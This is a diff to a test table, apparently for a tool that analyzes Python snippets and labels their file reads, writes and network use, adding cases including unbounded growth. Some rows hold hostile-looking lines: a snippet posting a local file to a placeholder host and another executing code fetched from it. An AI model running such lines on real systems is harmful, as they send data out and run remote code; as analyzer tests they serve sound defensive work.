@@ -99,6 +99,11 @@ const CODE: FactRows = {
       reads: ["./a"],
       network: ["both https://h.example < ./a"],
     },
+    {
+      run: "import requests\nopen('a').read()\nrequests.post('https://h.example', data=open('a').read())",
+      reads: ["./a"],
+      network: ["both https://h.example < ./a"],
+    },
     { run: "import urllib.request as u\nu.urlopen('https://h.example')", network: ["in https://h.example"] },
     {
       run: "import requests\nexec(requests.get('https://h.example').text)",
@@ -124,6 +129,18 @@ const CODE: FactRows = {
       "def f(n): f(n + 1)\nf(1)",
     ].map((code) => ({ run: code, unknown: ["opaque-code" as const] })),
     { run: "f(", unknown: ["opaque-code"] },
+  ],
+  "values that grow without end": [
+    { run: `x = ['a']\n${"x = x + x\n".repeat(60)}` },
+    { run: `x = 'a'\n${"x = x + x\n".repeat(60)}open(x)`, reads: ["?"], unknown: ["dynamic-argument"] },
+    { run: `x = []\n${"x.append(x)\n".repeat(300)}print(x)` },
+    { run: `a = {}\n${"a[b] = a\n".repeat(300)}print(a)` },
+    { run: "def f():\n  return [f() for x in y] + [f() for x in z]\nf()", unknown: ["opaque-code"] },
+    {
+      run: "x = 'a'\nwhile y:\n  open(x, 'w')\n  x += 'b'",
+      writes: ["./a", "./ab", "?"],
+      unknown: ["dynamic-argument"],
+    },
   ],
   "ordinary programs": [
     { run: "print('rm -rf /')" },
